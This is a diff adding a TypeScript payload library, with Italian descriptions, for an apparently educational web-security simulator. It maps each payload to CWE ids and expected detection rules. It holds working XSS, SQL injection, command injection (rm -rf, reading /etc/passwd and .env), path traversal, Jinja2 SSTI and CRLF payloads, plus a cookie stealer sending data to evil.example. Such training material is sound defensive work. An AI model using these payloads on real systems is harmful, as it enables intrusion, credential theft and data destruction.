@@ -0,0 +1,407 @@
+/**
+ * Payload library for the simulators
+ *
+ * EDUCATIONAL NOTE:
+ * Every payload records which detection rules are EXPECTED to fire on it,
+ * and an empty list is deliberate: encoded traversal, CRLF header injection
+ * and JS-string breakouts sail past the blacklist. The CWE id links each
+ * entry to MITRE's catalogue, the vocabulary used in audits and CVEs.
+ */
+
+export type PayloadCategory =
+  | "xss-reflected"
+  | "xss-stored"
+  | "xss-dom"
+  | "sqli"
+  | "command-injection"
+  | "path-traversal"
+  | "ssti"
+  | "header-injection"
+  | "polyglot";
+
+/** Inputs a payload can be loaded into */
+export type PayloadTarget = "sanitizer" | "challenge" | "sql" | "ping" | "download";
+
+export interface PayloadEntry {
+  id: string;
+  category: PayloadCategory;
+  name: string;
+  payload: string;
+  description: string;
+  /** Rule ids (built-in patterns and starter rules) that should flag the payload */
+  expectedDetection: string[];
+  cwe: string;
+  targets: PayloadTarget[];
+}
+
+export const PAYLOAD_CATEGORIES: Array<{ id: PayloadCategory; label: string; description: string }> = [
+  { id: "xss-reflected", label: "XSS riflesso", description: "L'input torna subito nella risposta della stessa richiesta" },
+  { id: "xss-stored", label: "XSS persistente", description: "L'input viene salvato e mostrato a ogni visitatore" },
+  { id: "xss-dom", label: "XSS DOM-based", description: "Il JavaScript della pagina scrive l'input in un sink (innerHTML, location)" },
+  { id: "sqli", label: "SQL injection", description: "L'input modifica la struttura di una query SQL" },
+  { id: "command-injection", label: "Command injection", description: "L'input avvia comandi nella shell del server" },
+  { id: "path-traversal", label: "Path traversal", description: "L'input esce dalla directory prevista" },
+  { id: "ssti", label: "Template injection", description: "L'input viene compilato come template lato server" },
+  { id: "header-injection", label: "Header injection", description: "CR/LF nell'input aggiungono header alla risposta HTTP" },
+  { id: "polyglot", label: "Poliglotti", description: "Un solo payload valido in più contesti contemporaneamente" },
+];
+
+const XSS_TARGETS: PayloadTarget[] = ["sanitizer", "challenge"];
+
+export const PAYLOADS: PayloadEntry[] = [
+  // XSS - reflected
+  {
+    id: "xss-script-tag",
+    category: "xss-reflected",
+    name: "Tag <script> classico",
+    payload: '<script>alert("XSS")</script>',
+    description: "Il payload da manuale: ogni filtro lo blocca, ed è il motivo per cui non basta",
+    expectedDetection: ["xss-script-tag"],
+    cwe: "CWE-79",
+    targets: XSS_TARGETS,
+  },
+  {
+    id: "xss-attribute-breakout",
+    category: "xss-reflected",
+    name: "Uscita dall'attributo",
+    payload: '"><svg onload=alert(1)>',
+    description: 'Chiude value="..." e il tag, poi apre un elemento SVG con handler',
+    expectedDetection: ["event-handler"],
+    cwe: "CWE-79",
+    targets: XSS_TARGETS,
+  },
+  {
+    id: "xss-mixed-case",
+    category: "xss-reflected",
+    name: "Maiuscole/minuscole miste",
+    payload: "<ScRiPt>alert(1)</ScRiPt>",
+    description: "Aggira i filtri che confrontano la stringa esatta: il parser HTML ignora il case",
+    expectedDetection: ["xss-script-tag"],
+    cwe: "CWE-79",
+    targets: XSS_TARGETS,
+  },
+  {
+    id: "xss-svg-slash",
+    category: "xss-reflected",
+    name: "Slash al posto dello spazio",
+    payload: "<svg/onload=alert(1)>",
+    description: "Il parser accetta / tra nome del tag e attributo: i filtri che cercano ' on' lo perdono",
+    expectedDetection: ["event-handler"],
+    cwe: "CWE-79",
+    targets: XSS_TARGETS,
+  },
+  // XSS - stored
+  {
+    id: "xss-img-onerror",
+    category: "xss-stored",
+    name: "Cookie stealer con onerror",
+    payload: "<img src=x onerror=\"fetch('https://evil.example/?c='+document.cookie)\">",
+    description: "Salvato in un commento, invia il cookie di ogni visitatore all'attaccante",
+    expectedDetection: ["event-handler", "img-onerror"],
+    cwe: "CWE-79",
+    targets: XSS_TARGETS,
+  },
+  {
+    id: "xss-javascript-link",
+    category: "xss-stored",
+    name: "Link javascript:",
+    payload: '<a href="javascript:alert(document.domain)">Clicca qui</a>',
+    description: "Nessun codice all'apertura della pagina: parte al click della vittima",
+    expectedDetection: ["javascript-uri"],
+    cwe: "CWE-79",
+    targets: XSS_TARGETS,
+  },
+  {
+    id: "xss-entity-javascript",
+    category: "xss-stored",
+    name: "javascript&#58; con entità",
+    payload: '<a href="javascript&#58;alert(1)">premio</a>',
+    description: "Il browser decodifica l'entità prima di leggere l'URL, la regex no",
+    expectedDetection: [],
+    cwe: "CWE-79",
+    targets: XSS_TARGETS,
+  },
+  {
+    id: "xss-iframe",
+    category: "xss-stored",
+    name: "Iframe di phishing",
+    payload: '<iframe src="https://evil.example/login" width="100%" height="400"></iframe>',
+    description: "Mostra un finto form di login dentro la pagina legittima",
+    expectedDetection: ["iframe-injection"],
+    cwe: "CWE-79",
+    targets: XSS_TARGETS,
+  },
+  // XSS - DOM
+  {
+    id: "xss-dom-hash",
+    category: "xss-dom",
+    name: "Fragment in innerHTML",
+    payload: "#<img src=x onerror=alert(document.cookie)>",
+    description: "location.hash scritto in innerHTML: il fragment non arriva mai al server, nessun WAF lo vede",
+    expectedDetection: ["event-handler", "img-onerror"],
+    cwe: "CWE-79",
+    targets: XSS_TARGETS,
+  },
+  {
+    id: "xss-dom-redirect",
+    category: "xss-dom",
+    name: "Redirect verso javascript:",
+    payload: "javascript:alert(document.cookie)",
+    description: "Un parametro ?next= assegnato a location.href esegue lo schema javascript:",
+    expectedDetection: ["javascript-uri"],
+    cwe: "CWE-79",
+    targets: XSS_TARGETS,
+  },
+  {
+    id: "xss-js-string",
+    category: "xss-dom",
+    name: "Uscita da stringa JS",
+    payload: "'-alert(1)-'",
+    description: "Dentro var q = '...': chiude la stringa e inserisce un'espressione. Nessun tag, nessun filtro",
+    expectedDetection: [],
+    cwe: "CWE-79",
+    targets: ["sanitizer"],
+  },
+  // SQL injection
+  {
+    id: "sqli-tautology",
+    category: "sqli",
+    name: "Tautologia OR 1=1",
+    payload: "' OR '1'='1' --",
+    description: "Rende vera la WHERE: il login restituisce tutti gli utenti",
+    expectedDetection: ["sql-tautology"],
+    cwe: "CWE-89",
+    targets: ["sanitizer", "sql"],
+  },
+  {
+    id: "sqli-comment",
+    category: "sqli",
+    name: "Commento admin'--",
+    payload: "admin'--",
+    description: "Commenta il controllo della password: accesso come admin",
+    expectedDetection: [],
+    cwe: "CWE-89",
+    targets: ["sanitizer", "sql"],
+  },
+  {
+    id: "sqli-union",
+    category: "sqli",
+    name: "UNION sulle password",
+    payload: "' UNION SELECT id, username || ':' || password, email, role FROM users --",
+    description: "Accoda alla query i dati di un'altra tabella o colonna",
+    expectedDetection: [],
+    cwe: "CWE-89",
+    targets: ["sanitizer", "sql"],
+  },
+  {
+    id: "sqli-drop-table",
+    category: "sqli",
+    name: "Stacked DROP TABLE",
+    payload: "'; DROP TABLE users; --",
+    description: "Chiude la query e ne esegue un'altra, se il driver accetta più statement",
+    expectedDetection: [],
+    cwe: "CWE-89",
+    targets: ["sanitizer", "sql"],
+  },
+  {
+    id: "sqli-blind-time",
+    category: "sqli",
+    name: "Blind time-based",
+    payload: "' AND 1=(SELECT CASE WHEN (1=1) THEN randomblob(300000000) ELSE 1 END) --",
+    description: "Nessun output: l'attaccante deduce i dati dal tempo di risposta",
+    expectedDetection: ["sql-tautology"],
+    cwe: "CWE-89",
+    targets: ["sanitizer", "sql"],
+  },
+  // Command injection
+  {
+    id: "cmd-semicolon",
+    category: "command-injection",
+    name: "; cat /etc/passwd",
+    payload: "8.8.8.8; cat /etc/passwd",
+    description: "Il ; termina ping e avvia un secondo comando",
+    expectedDetection: ["command-chaining"],
+    cwe: "CWE-78",
+    targets: ["sanitizer", "ping"],
+  },
+  {
+    id: "cmd-and-rm",
+    category: "command-injection",
+    name: "&& rm -r",
+    payload: "8.8.8.8 && rm -r /var/www/downloads",
+    description: "Esegue la cancellazione solo se ping riesce: nessun ; per la blacklist",
+    expectedDetection: [],
+    cwe: "CWE-78",
+    targets: ["sanitizer", "ping"],
+  },
+  {
+    id: "cmd-substitution",
+    category: "command-injection",
+    name: "Sostituzione $()",
+    payload: "$(cat /home/app/.env | head -n 1)",
+    description: "La shell esegue il comando interno prima ancora di avviare ping",
+    expectedDetection: [],
+    cwe: "CWE-78",
+    targets: ["sanitizer", "ping"],
+  },
+  {
+    id: "cmd-pipe",
+    category: "command-injection",
+    name: "Pipe verso id",
+    payload: "8.8.8.8 | id",
+    description: "L'output di ping va a un altro programma: basta per sapere con che utente gira il server",
+    expectedDetection: [],
+    cwe: "CWE-78",
+    targets: ["sanitizer", "ping"],
+  },
+  {
+    id: "cmd-download-rm",
+    category: "command-injection",
+    name: "Nome file con ; rm -rf",
+    payload: "report.txt; rm -rf /var/www #",
+    description: "Anche un parametro 'nome file' finisce nella shell, se concatenato",
+    expectedDetection: ["command-chaining"],
+    cwe: "CWE-78",
+    targets: ["sanitizer", "download"],
+  },
+  // Path traversal
+  {
+    id: "traversal-etc-passwd",
+    category: "path-traversal",
+    name: "../../../etc/passwd",
+    payload: "../../../etc/passwd",
+    description: "Risale dalla directory dei download fino alla radice",
+    expectedDetection: ["path-traversal"],
+    cwe: "CWE-22",
+    targets: ["sanitizer", "download"],
+  },
+  {
+    id: "traversal-env",
+    category: "path-traversal",
+    name: "Segreti in .env",
+    payload: "../../../home/app/.env",
+    description: "Le credenziali dell'applicazione, leggibili dall'utente del web server",
+    expectedDetection: ["path-traversal"],
+    cwe: "CWE-22",
+    targets: ["sanitizer", "download"],
+  },
+  {
+    id: "traversal-encoded",
+    category: "path-traversal",
+    name: "Traversal URL-encoded",
+    payload: "..%2f..%2f..%2fetc%2fpasswd",
+    description: "Se il server decodifica DOPO il controllo, la blacklist non vede nessun ../",
+    expectedDetection: [],
+    cwe: "CWE-22",
+    targets: ["sanitizer", "download"],
+  },
+  {
+    id: "traversal-nested",
+    category: "path-traversal",
+    name: "....// annidato",
+    payload: "....//....//....//etc/passwd",
+    description: "Un filtro che rimuove ../ una sola volta lascia proprio ../",
+    expectedDetection: ["path-traversal"],
+    cwe: "CWE-22",
+    targets: ["sanitizer", "download"],
+  },
+  // SSTI
+  {
+    id: "ssti-arithmetic",
+    category: "ssti",
+    name: "{{7*7}}",
+    payload: "{{7*7}}",
+    description: "La sonda classica: se la pagina mostra 49, il template valuta l'input",
+    expectedDetection: ["template-injection"],
+    cwe: "CWE-1336",
+    targets: ["sanitizer"],
+  },
+  {
+    id: "ssti-jinja-rce",
+    category: "ssti",
+    name: "Jinja2 verso os.popen",
+    payload: "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}",
+    description: "Dagli oggetti del template risale al modulo os: esecuzione di comandi sul server",
+    expectedDetection: ["template-injection"],
+    cwe: "CWE-1336",
+    targets: ["sanitizer"],
+  },
+  {
+    id: "ssti-dollar",
+    category: "ssti",
+    name: "${7*7}",
+    payload: "${7*7}",
+    description: "Sintassi di Freemarker, Thymeleaf e template literal JavaScript",
+    expectedDetection: ["template-injection"],
+    cwe: "CWE-1336",
+    targets: ["sanitizer"],
+  },
+  {
+    id: "ssti-erb",
+    category: "ssti",
+    name: "<%= 7*7 %>",
+    payload: "<%= 7*7 %>",
+    description: "ERB (Ruby) ed EJS (Node.js)",
+    expectedDetection: ["template-injection"],
+    cwe: "CWE-1336",
+    targets: ["sanitizer"],
+  },
+  // Header injection
+  {
+    id: "header-set-cookie",
+    category: "header-injection",
+    name: "CRLF + Set-Cookie",
+    payload: "it%0d%0aSet-Cookie:%20session=attacker",
+    description: "Un parametro riflesso in un header aggiunge un cookie scelto dall'attaccante (session fixation)",
+    expectedDetection: [],
+    cwe: "CWE-113",
+    targets: ["sanitizer"],
+  },
+  {
+    id: "header-response-splitting",
+    category: "header-injection",
+    name: "Response splitting",
+    payload: "x%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<h1>fake</h1>",
+    description: "Termina la risposta e ne costruisce una seconda: avvelena cache e proxy",
+    expectedDetection: [],
+    cwe: "CWE-113",
+    targets: ["sanitizer"],
+  },
+  {
+    id: "header-redirect",
+    category: "header-injection",
+    name: "Location iniettato",
+    payload: "/home%0d%0aLocation:%20https://evil.example",
+    description: "In un redirect costruito con l'input, sostituisce la destinazione",
+    expectedDetection: [],
+    cwe: "CWE-113",
+    targets: ["sanitizer"],
+  },
+  // Polyglots
+  {
+    id: "polyglot-xss",
+    category: "polyglot",
+    name: "Poliglotta XSS",
+    payload:
+      "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
+    description: "Esegue in un URL, in un attributo, in una stringa JS e dopo textarea/title/style/script",
+    expectedDetection: ["javascript-uri", "event-handler"],
+    cwe: "CWE-79",
+    targets: XSS_TARGETS,
+  },
+  {
+    id: "polyglot-multi",
+    category: "polyglot",
+    name: "HTML + SQL + template",
+    payload: "'\"><img src=x onerror=alert(1)>{{7*7}}' OR '1'='1",
+    description: "Sonda più contesti in una volta: utile per capire dove finisce l'input",
+    expectedDetection: ["img-onerror", "event-handler", "template-injection", "sql-tautology"],
+    cwe: "CWE-74",
+    targets: XSS_TARGETS,
+  },
+];
+
+/** Entries that can be loaded into the given input */
+export function payloadsFor(target: PayloadTarget): PayloadEntry[] {
+  return PAYLOADS.filter((p) => p.targets.includes(target));
+}